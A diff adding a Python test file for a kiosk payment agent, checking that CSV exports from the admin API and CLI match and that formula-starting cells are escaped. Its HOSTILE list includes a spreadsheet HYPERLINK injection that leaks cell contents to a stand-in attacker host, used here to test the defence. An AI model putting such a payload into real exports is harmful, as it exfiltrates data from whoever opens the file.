@@ -1,0 +1,169 @@
+"""One CSV/JSON export: the admin API's CSV, `report --format csv` and `sales --format csv` agree,
+and a cell a spreadsheet would run as a formula is neutralised on all three routes."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import json
+from collections.abc import AsyncIterator
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+
+import aiohttp
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from kiosk_agent.app import load_agent
+from kiosk_agent.cli import main
+from kiosk_agent.core.journal import Journal, SaleRecord
+from kiosk_agent.core.sale import SaleState
+from kiosk_agent.export import (
+    FORMULA_STARTS,
+    Amount,
+    CsvExport,
+    JsonExport,
+    csv_cell,
+    timestamp,
+)
+from kiosk_agent.service.client import ServiceClient
+from kiosk_agent.service.models.payments import ChargeRequest
+from kiosk_agent.sim.server import SimServer
+from tests.admin.conftest import ADMIN_TOKEN, write_config
+
+# What the attack review put in product names and order fields.
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-1+1", "@SUM(1)",
+           "\tTAB", "\rCR"]
+
+
+def test_formula_cells_get_a_leading_quote_and_plain_text_stays() -> None:
+    assert [csv_cell(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
+    assert csv_cell("Snickers") == "Snickers"
+    assert csv_cell("a=b") == "a=b"  # only the first character makes a formula
+    assert csv_cell(None) == ""
+
+
+def test_our_numbers_keep_their_sign_and_two_places() -> None:
+    assert csv_cell(Amount(8070)) == "80.70"
+    assert csv_cell(Amount(-150)) == "-1.50"  # an adjustment may be negative: not text
+    assert csv_cell(-3) == "-3"
+    assert csv_cell(Decimal("0.0195")) == "0.0195"  # a rate is not an amount
+
+
+def test_timestamps_are_utc_to_the_second_with_z() -> None:
+    paris = dt.timezone(dt.timedelta(hours=1))
+    assert timestamp(dt.datetime(2026, 11, 22, 11, 15, 30, 123000, tzinfo=paris)) == (
+        "2026-11-22T10:15:30Z"
+    )
+    assert timestamp(dt.datetime(2026, 11, 22, 10, 15, 30)) == "2026-11-22T10:15:30Z"
+
+
+@given(st.text(max_size=40))
+def test_no_text_cell_ever_starts_a_formula(text: str) -> None:
+    line = CsvExport(["name"]).row({"name": text})
+    [[cell]] = list(csv.reader(io.StringIO(line, newline="")))
+    assert not cell.startswith(FORMULA_STARTS)
+    assert cell.removeprefix("'") == text or cell == text
+
+
+def test_json_export_is_one_array_with_exact_amounts() -> None:
+    export = JsonExport()
+    text = export.start() + export.row({"amount": Amount(250), "at": dt.datetime(
+        2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC)}) + export.row({"amount": Amount(1)}) + export.end()
+    assert json.loads(text) == [{"amount": "2.50", "at": "2026-01-02T03:04:05Z"},
+                                {"amount": "0.01"}]
+    empty = JsonExport()
+    assert json.loads(empty.start() + empty.end()) == []
+
+
+# -- the three routes --------------------------------------------------------------------------
+
+
+@pytest.fixture
+async def hostile_orders(sim: SimServer, sim_settings: Any) -> list[str]:
+    """One approved charge per hostile order id, in the simulator's reporting."""
+    async with ServiceClient(sim_settings) as svc:
+        for order_id in HOSTILE[:4]:
+            await svc.payments.charge(ChargeRequest(
+                mid=svc.settings.mid, amount=8070, account_token="tok_4111111111111111",
+                expiration="1230", order_id=order_id,
+            ))
+    return HOSTILE[:4]
+
+
+@pytest.fixture
+async def admin_url(tmp_path: Path, sim_settings: Any) -> AsyncIterator[str]:
+    agent = load_agent(write_config(tmp_path), sim_settings, systemd=False)
+    await agent.start()
+    server = next(c for c in agent.components if type(c).__name__ == "AdminServer")
+    try:
+        yield server.url
+    finally:
+        await agent.stop()
+
+
+def _env(monkeypatch: pytest.MonkeyPatch, sim: SimServer) -> None:
+    info = sim.ready_info()
+    monkeypatch.delenv("KIOSK_CONFIG", raising=False)
+    monkeypatch.setenv("KIOSK_BASE_URL", info["base_url"])
+    monkeypatch.setenv("KIOSK_CLIENT_ID", info["client_id"])
+    monkeypatch.setenv("KIOSK_CLIENT_SECRET", info["client_secret"])
+
+
+async def test_admin_csv_and_cli_csv_are_the_same_file_with_formulas_neutralised(
+    hostile_orders: list[str], admin_url: str, sim: SimServer,
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
+) -> None:
+    from kiosk_agent.cli import build_parser
+
+    _env(monkeypatch, sim)
+    for order_id in hostile_orders:
+        query = {"format": "csv", "order_id": order_id}
+        headers = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
+        async with (
+            aiohttp.ClientSession() as http,
+            http.get(f"{admin_url}/api/reports/transactions", params=query,
+                     headers=headers) as response,
+        ):
+            assert response.status == 200
+            from_api = await response.text()
+        args = build_parser("report").parse_args(
+            ["report", "transactions", f"--order-id={order_id}", "--format", "csv", "--quiet"]
+        )
+        assert await args.handler(args) == 0
+        from_cli = capsys.readouterr().out
+        assert from_api == from_cli  # same columns, order, amounts, timestamps: one writer
+        [row] = list(csv.DictReader(io.StringIO(from_cli)))
+        assert row["order_id"] == "'" + order_id
+        assert row["amount"] == "80.70"
+        assert row["amount_cents"] == "8070"
+        assert row["trans_date"].endswith("Z")
+        assert "account_token" not in row
+
+
+def test_sales_csv_neutralises_product_names_and_messages(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    config = tmp_path / "config.yaml"
+    config.write_text("service: {simulator: {}}\nterminals: [{device_id: SIM-0001}]\n"
+                      "journal: {path: journal.db}\n")
+    journal = Journal(tmp_path / "journal.db")
+    journal.open()
+    for n, product in enumerate(HOSTILE):
+        sale = journal.create(SaleRecord(
+            sale_id=f"s{n}", order_id=f"KA{n}", source="kiosk_api:front", flow="charge_card",
+            terminal="SIM-0001", amount_cents=1000 + n, product=product,
+            state=SaleState.STARTED, created_at=1_790_000_000.0 + n,
+        ))
+        journal.record(sale, "end", SaleState.COMPLETED, captured_cents=1000 + n,
+                       message=product)
+    journal.close()
+    assert main(["sales", "-c", str(config), "--format", "csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert sorted(r["product"] for r in rows) == sorted("'" + p for p in HOSTILE)
+    assert all(r["message"] == r["product"] for r in rows)
+    assert {r["amount"] for r in rows} == {f"10.0{n}" for n in range(len(HOSTILE))}
+    assert all(r["created"].endswith("Z") for r in rows)
